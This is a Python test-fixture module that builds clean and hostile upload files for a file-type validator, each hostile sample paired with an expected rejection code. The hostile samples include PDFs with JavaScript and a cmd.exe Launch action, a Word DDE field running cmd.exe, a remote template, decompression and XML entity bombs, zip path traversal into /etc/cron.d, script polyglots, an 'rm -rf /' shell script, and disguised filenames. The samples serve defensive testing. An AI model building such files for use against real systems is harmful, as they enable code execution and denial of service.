"""Files made in memory: one good one of each kind, and the bad ones people and attackers send."""

from __future__ import annotations

import base64
import binascii
import io
import random
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING, Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

NIK = "6303054107900003"
_TYPES = "application/vnd.openxmlformats-officedocument."
DOCX_MAIN = _TYPES + "wordprocessingml.document.main+xml"
XLSX_MAIN = _TYPES + "spreadsheetml.sheet.main+xml"
PPTX_MAIN = _TYPES + "presentationml.presentation.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


RESTRICTED = pikepdf.Encryption(
    owner="pemilik", user="", allow=pikepdf.Permissions(extract=False, print_highres=False)
)


def pdf(
    change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, text: str = "", **save: Any
) -> bytes:
    """A PDF of A4 pages with `text` on the first, after `change` has had its way with it."""
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page(page_size=(595, 842))
        if text and pages:
            font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            page = document.pages[0].obj
            page.Resources = Dictionary(Font=Dictionary(F1=font))
            page.Contents = Stream(document, f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())
        if change:
            change(document)
        target = io.BytesIO()
        document.save(target, deterministic_id="encryption" not in save, **save)
        return target.getvalue()


def picture(format_: str = "JPEG", size: tuple[int, int] = (320, 240), **save: Any) -> bytes:
    target = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(target, format_, **save)
    return target.getvalue()


def noisy_photo(side: int = 2_600, quality: int = 95) -> bytes:
    """A photo-like JPEG that does not compress: about 5 MB at the default side."""
    target = io.BytesIO()
    Image.effect_noise((side, side), 90).convert("RGB").save(target, "JPEG", quality=quality)
    return target.getvalue()


def phone_photo(orientation: int = 6) -> bytes:
    """A JPEG that lies on its side and knows where it was taken; red at the left edge, else blue."""
    image = Image.new("RGB", (400, 200), "blue")
    image.paste("red", (0, 0, 100, 200))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "RahasiaPonsel"
    exif[0x8825] = {1: "S", 2: (3.0, 24.0, 38.0), 3: "E", 4: (114.0, 51.0, 9.0)}
    target = io.BytesIO()
    image.save(target, "JPEG", exif=exif, quality=95)
    return target.getvalue()


def archive(parts: Mapping[str, bytes | str], *, stored: bool = False) -> bytes:
    target = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(target, "w", method) as package:
        for name, content in parts.items():
            package.writestr(zipfile.ZipInfo(name, (2026, 2, 20, 9, 0, 0)), content, method)
    return target.getvalue()


def content_types(main: str) -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/x" ContentType="{main}"/>'
        "</Types>"
    )


def relations(
    *, noun: str = "officeDocument", target: str = "word/document.xml", outside: bool = False
) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{_RELS}">'
        f'<Relationship Id="r1" Type="{_OFFICE}/{noun}" Target="{target}"{mode}/></Relationships>'
    )


def docx(
    text: str = "Surat Keputusan", *, main: str = DOCX_MAIN, extra: Mapping[str, bytes | str] | None = None
) -> bytes:
    """A small Word file; `extra` parts by path."""
    body = f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(main),
        "_rels/.rels": relations(),
        "word/document.xml": body,
    }
    return archive(parts | dict(extra or {}))


def xlsx(text: str = "Jumlah anak", *, extra: Mapping[str, bytes | str] | None = None) -> bytes:
    shared = f"<sst><si><t>{text}</t></si></sst>"
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(XLSX_MAIN),
        "_rels/.rels": relations(target="xl/workbook.xml"),
        "xl/workbook.xml": "<workbook/>",
        "xl/sharedStrings.xml": shared,
        "xl/worksheets/sheet1.xml": '<worksheet><c t="s"><v>0</v></c><c><v>12</v></c></worksheet>',
    }
    return archive(parts | dict(extra or {}))


def pptx(slides: int = 3) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(PPTX_MAIN),
        "_rels/.rels": relations(target="ppt/presentation.xml"),
        "ppt/presentation.xml": "<p/>",
    }
    return archive(parts | {f"ppt/slides/slide{n}.xml": "<s/>" for n in range(1, slides + 1)})


def good() -> dict[str, bytes]:
    """One clean file of each kind on the allow-list."""
    return {
        "pdf": pdf(text="Surat Keputusan Bupati"),
        "jpg": picture("JPEG"),
        "png": picture("PNG"),
        "docx": docx(),
        "xlsx": xlsx(),
        "pptx": pptx(),
    }


def compound(stream: str) -> bytes:
    """The beginning of an old Office container that holds `stream`."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(512)


def png_of(width: int, height: int) -> bytes:
    """A PNG that promises `width` × `height` pixels and is a few bytes long."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(64)))
        + chunk(b"IEND", b"")
    )


def overlapping_archive() -> bytes:
    """A Word file whose list of contents names the same bytes twice (an overlap bomb)."""
    content = docx(extra={"word/media/a": "x" * 5_000, "word/media/b": "x" * 5_000})
    first = content.index(b"PK\x01\x02")
    entries = content[first : content.rindex(b"PK\x05\x06")]
    start_a, start_b = (content.index(b"word/media/" + n) - 30 for n in (b"a", b"b"))
    forged = entries.replace(
        struct.pack("<I", start_b) + b"word/media/b", struct.pack("<I", start_a) + b"word/media/b"
    )
    return content[:first] + forged + content[content.rindex(b"PK\x05\x06") :]


def lying_archive() -> bytes:
    """A Word file with a part that unpacks to more than its list of contents says."""
    content = bytearray(docx(extra={"word/media/a": "x" * 50_000}))
    for signature, position in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = (
            content.rindex(b"word/media/a") if signature == b"PK\x01\x02" else content.index(b"word/media/a")
        )
        header = content.rindex(signature, 0, start)
        content[header + position : header + position + 4] = struct.pack("<I", 100)
    return bytes(content)


def _javascript(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _named_javascript(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(document, b"app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", action])))


def _page_javascript(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F="cmd.exe")


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["data.bin"] = b"MZ"


def _submit(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="https://contoh.invalid/")


def _rich_media(document: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(document, b"<xdp/>"))


def _huge_picture(document: pikepdf.Pdf) -> None:
    image = Stream(document, b"x", Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000)
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=image))


def _inflating(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Contents = Stream(document, _zeros(), Filter=Name.FlateDecode)


def _zeros() -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(320)) + packer.flush()


def _behind(filter_: str, encode: Callable[[bytes], bytes]) -> Callable[[pikepdf.Pdf], None]:
    """A page that inflates behind a filter that looks harmless."""

    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.Contents = Stream(
            document,
            encode(_zeros()),
            Filter=Array([Name(f"/{filter_}"), Name.FlateDecode]),
        )

    return change


def _inflating_as_a_small_picture(document: pikepdf.Pdf) -> None:
    _inflating(document)
    page = document.pages[0].obj.Contents
    page.Subtype, page.Width, page.Height = Name.Image, 1, 1


def _unfolding_lzw(document: pikepdf.Pdf) -> None:
    """Codes 0, 258, 259, … each stands for one zero more than the last; fifty full tables are 370 MB."""
    codes = [format(0, "09b")]
    codes += [format(code, f"0{min(12, (code + 1).bit_length())}b") for code in range(258, 4_093)]
    clear_table = format(256, "012b")
    bits = format(256, "09b") + clear_table.join(["".join(codes)] * 50)
    packed = int(bits + "0" * (-len(bits) % 8), 2).to_bytes(-(-len(bits) // 8), "big")
    document.pages[0].obj.Contents = Stream(document, packed, Filter=Name.LZWDecode)


def _base_85(content: bytes) -> bytes:
    return base64.a85encode(content) + b"~>"


def _doubly_packed(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(zlib.compress(b"q Q"))
    document.pages[0].obj.Contents = Stream(
        document, packed, Filter=Array([Name.FlateDecode, Name.FlateDecode])
    )


_KEEP = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


def hostile_pdfs() -> dict[str, tuple[str, str, bytes]]:
    """Case → (expected code, file name, bytes)."""
    locked = pikepdf.Encryption(owner="pemilik", user="rahasia")
    old = pikepdf.Encryption(owner="pemilik", user="rahasia", R=3, aes=False, metadata=False)
    whole = pdf(text="isi " * 400)
    cases: dict[str, tuple[str, bytes]] = {
        "javascript at opening": ("pdf-javascript", pdf(_javascript)),
        "javascript by name": ("pdf-javascript", pdf(_named_javascript)),
        "javascript on a page": ("pdf-javascript", pdf(_page_javascript)),
        "javascript with an escaped name": (
            "pdf-javascript",
            pdf(_javascript, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
                b"/S /JavaScript", b"/S /J#61va#53cript"
            ),
        ),
        "launch": ("pdf-launch", pdf(_launch)),
        "embedded file": ("pdf-embedded-file", pdf(_attachment)),
        "form that sends": ("pdf-form-action", pdf(_submit)),
        "rich media": ("pdf-multimedia", pdf(_rich_media)),
        "XFA form": ("pdf-xfa", pdf(_xfa)),
        "password": ("pdf-encrypted", pdf(encryption=locked)),
        "password of an old kind": ("pdf-encrypted", pdf(encryption=old)),
        "restricted, with javascript": ("pdf-javascript", pdf(_javascript, encryption=RESTRICTED)),
        "restricted, with a file inside": ("pdf-embedded-file", pdf(_attachment, encryption=RESTRICTED)),
        "restricted, inflating": ("pdf-bomb", pdf(_inflating, encryption=RESTRICTED)),
        "restricted, huge picture": ("image-bomb", pdf(_huge_picture, encryption=RESTRICTED)),
        "no page": ("pdf-no-pages", pdf(pages=0)),
        "too many pages": ("pdf-too-many-pages", pdf(pages=2_001)),
        "only a header": ("pdf-broken", b"%PDF-1.7\n"),
        "noise after the header": ("pdf-broken", b"%PDF-1.7\n" + random.Random(1).randbytes(4_000)),
        "cut in half": ("pdf-broken", whole[: len(whole) // 3]),
        "huge picture": ("image-bomb", pdf(_huge_picture)),
        "inflating page": ("pdf-bomb", pdf(_inflating, **_KEEP)),
        "inflating behind hexadecimal": (
            "pdf-bomb",
            pdf(_behind("ASCIIHexDecode", binascii.hexlify), **_KEEP),
        ),
        "inflating behind base 85": (
            "pdf-bomb",
            pdf(_behind("ASCII85Decode", _base_85), **_KEEP),
        ),
        "unfolding LZW": ("pdf-bomb", pdf(_unfolding_lzw, **_KEEP)),
        "inflating page that says it is a small picture": (
            "pdf-bomb",
            pdf(_inflating_as_a_small_picture, **_KEEP),
        ),
        "doubly packed page": ("pdf-bomb", pdf(_doubly_packed, **_KEEP)),
        "archive behind": ("polyglot", pdf() + archive({"a.txt": "x"})),
        "behind a picture header": ("polyglot", b"GIF89a" + bytes(20) + pdf()),
    }
    return {case: (code, "SK Tim.pdf", content) for case, (code, content) in cases.items()}


def hostile_pictures() -> dict[str, tuple[str, str, bytes]]:
    photo, drawing = picture("JPEG"), picture("PNG")
    animated = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(animated, "PNG", save_all=True, append_images=frames[1:])
    return {
        "pixel bomb": ("image-bomb", "peta.png", png_of(60_000, 60_000)),
        "cut photo": ("image-broken", "foto.jpg", noisy_photo(400)[:-4_000]),
        "cut drawing": ("image-broken", "peta.png", drawing[: len(drawing) // 2]),
        "only a header": ("image-broken", "foto.jpg", photo[:20]),
        "cut between scans": ("image-broken", "foto.jpg", picture(progressive=True)[:-900]),
        "wrong checksum": ("image-broken", "peta.png", drawing[:50] + b"\xff\x00\xff" + drawing[53:]),
        "animated": ("image-animated", "peta.png", animated.getvalue()),
        "data behind a drawing": ("polyglot", "peta.png", drawing + b"MZ" + bytes(99)),
        "archive behind a photo": ("polyglot", "foto.jpg", photo + archive({"a.txt": "x"})),
        "document in a photo": ("polyglot", "foto.jpg", photo[:20] + b"%PDF-1.4" + photo[20:]),
        "script in a photo": (
            "polyglot",
            "foto.jpg",
            photo[:2] + b"\xff\xfe\x00\x1b<script>alert(1)</script>" + photo[2:],
        ),
    }


def hostile_office() -> dict[str, tuple[str, str, bytes]]:
    remote = relations(noun="attachedTemplate", target="https://contoh.invalid/x.dotm", outside=True)
    locked = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = locked.rindex(signature)
        locked[position + offset] |= 1
    dde = (
        '<w:document><w:r><w:t>DDE</w:t></w:r><w:r><w:t>AUTO c:\\\\cmd.exe "/k calc"</w:t></w:r></w:document>'
    )
    entity = '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
    types_bomb = archive({"[Content_Types].xml": entity, "word/document.xml": "<a/>"})
    ole = bytes(64) + "\x01Ole10Native".encode("utf-16-le") + b"payload.exe"
    inner = archive({"a.txt": "x"})
    cases: dict[str, tuple[str, bytes]] = {
        "macro renamed to docx": ("office-macro", docx(main=DOCM_MAIN)),
        "macro part": ("office-macro", docx(extra={"word/vbaProject.bin": b"macro"})),
        "macro in a nested workbook": (
            "office-macro",
            docx(extra={"word/embeddings/a.xlsx": xlsx(extra={"xl/vbaProject.bin": b"macro"})}),
        ),
        "macro sheet": ("office-macro", docx(extra={"xl/macrosheets/sheet1.xml": "<x/>"})),
        "active control": ("office-active", docx(extra={"word/activeX/activeX1.xml": "<x/>"})),
        "program inside": ("office-active", docx(extra={"word/media/a.exe": b"MZ"})),
        "command field": ("office-active", docx(extra={"word/header1.xml": dde})),
        "remote template": (
            "office-remote",
            docx(extra={"word/_rels/settings.xml.rels": remote}),
        ),
        "packed object": ("office-embedded-file", docx(extra={"word/embeddings/oleObject1.bin": ole})),
        "entity in content types": ("office-xml-bomb", types_bomb),
        "entity in a part": ("office-xml-bomb", docx(extra={"word/footer1.xml": entity})),
        "entity in relations": ("office-xml-bomb", docx(extra={"word/_rels/a.rels": entity})),
        "ratio": ("archive-bomb", docx(extra={"word/media/a.bmp": bytes(40 << 20)})),
        "too many entries": ("archive-bomb", docx(extra={f"word/media/{n}": b"" for n in range(4_100)})),
        "overlap": ("archive-bomb", overlapping_archive()),
        "wrong sizes": ("office-broken", lying_archive()),
        "nested archive": ("archive-nested", docx(extra={"word/media/a.zip": inner})),
        "nested twice": (
            "archive-nested",
            docx(extra={"word/embeddings/a.xlsx": xlsx(extra={"xl/embeddings/b.xlsx": xlsx()})}),
        ),
        "path outside": ("archive-path", docx(extra={"../../etc/cron.d/a": b"x"})),
        "locked part": ("office-encrypted", bytes(locked)),
        "cut": ("office-broken", docx()[:-60]),
        "template": ("office-not-document", docx(main=_TYPES + "wordprocessingml.template.main+xml")),
        "password": ("office-encrypted", compound("EncryptedPackage")),
    }
    return {case: (code, "Laporan.docx", content) for case, (code, content) in cases.items()}


def hostile_kinds() -> dict[str, tuple[str, str, bytes]]:
    """Wrong kinds, wrong names, nothing at all."""
    heic = b"\x00\x00\x00\x18ftypheic" + bytes(40)
    open_document = archive({"mimetype": "application/vnd.oasis.opendocument.text"}, stored=True)
    return {
        "empty": ("file-empty", "SK.pdf", b""),
        "only zero bytes": ("file-blank", "SK.pdf", bytes(4_000)),
        "old Word": ("legacy-doc", "SK.doc", compound("WordDocument")),
        "old Excel": ("legacy-xls", "Data.xls", compound("Workbook")),
        "old PowerPoint": ("legacy-ppt", "Paparan.ppt", compound("PowerPoint Document")),
        "unknown compound": ("type-not-allowed", "a.msi", compound("Lain")),
        "iPhone photo": ("type-heic", "IMG_1.HEIC", heic),
        "video": ("type-video", "rapat.mp4", b"\x00\x00\x00\x18ftypisom" + bytes(40)),
        "GIF": ("type-picture", "a.gif", picture("GIF")),
        "WebP": ("type-picture", "a.webp", picture("WEBP")),
        "TIFF": ("type-picture", "a.tif", picture("TIFF")),
        "GIF that is a script": ("polyglot", "a.gif", b"GIF89a=1;alert(1)//"),
        "program named as PDF": ("type-program", "SK.pdf", b"MZ" + bytes(200)),
        "shell script": ("type-program", "SK.pdf", b"#!/bin/sh\nrm -rf /\n"),
        "ZIP": ("type-archive", "bukti.zip", archive({"a.txt": "x"})),
        "RAR": ("type-archive", "bukti.rar", b"Rar!\x1a\x07\x00" + bytes(80)),
        "web page named as PDF": ("type-web-page", "SK.pdf", b"<!DOCTYPE html><script>alert(1)</script>"),
        "SVG": ("type-web-page", "logo.svg", b"<svg xmlns='x' onload='alert(1)'/>"),
        "RTF": ("type-rtf", "SK.rtf", b"{\\rtf1 isi}"),
        "OpenDocument": ("type-opendocument", "SK.odt", open_document),
        "plain text": ("type-not-allowed", "catatan.txt", b"hanya catatan biasa"),
        "PDF named as Word": ("extension-mismatch", "SK.docx", pdf()),
        "Word named as PDF": ("extension-mismatch", "SK.pdf", docx()),
        "reversed name": ("extension-mismatch", "laporan\u202efdp.exe", pdf()),
        "double ending": ("extension-mismatch", "SK.pdf.exe", pdf()),
    }


def all_hostile() -> dict[str, tuple[str, str, bytes]]:
    """Every bad input: "group: case" → (expected code, file name, bytes)."""
    groups = {
        "pdf": hostile_pdfs(),
        "picture": hostile_pictures(),
        "office": hostile_office(),
        "kind": hostile_kinds(),
    }
    return {f"{group}: {case}": found for group, cases in groups.items() for case, found in cases.items()}
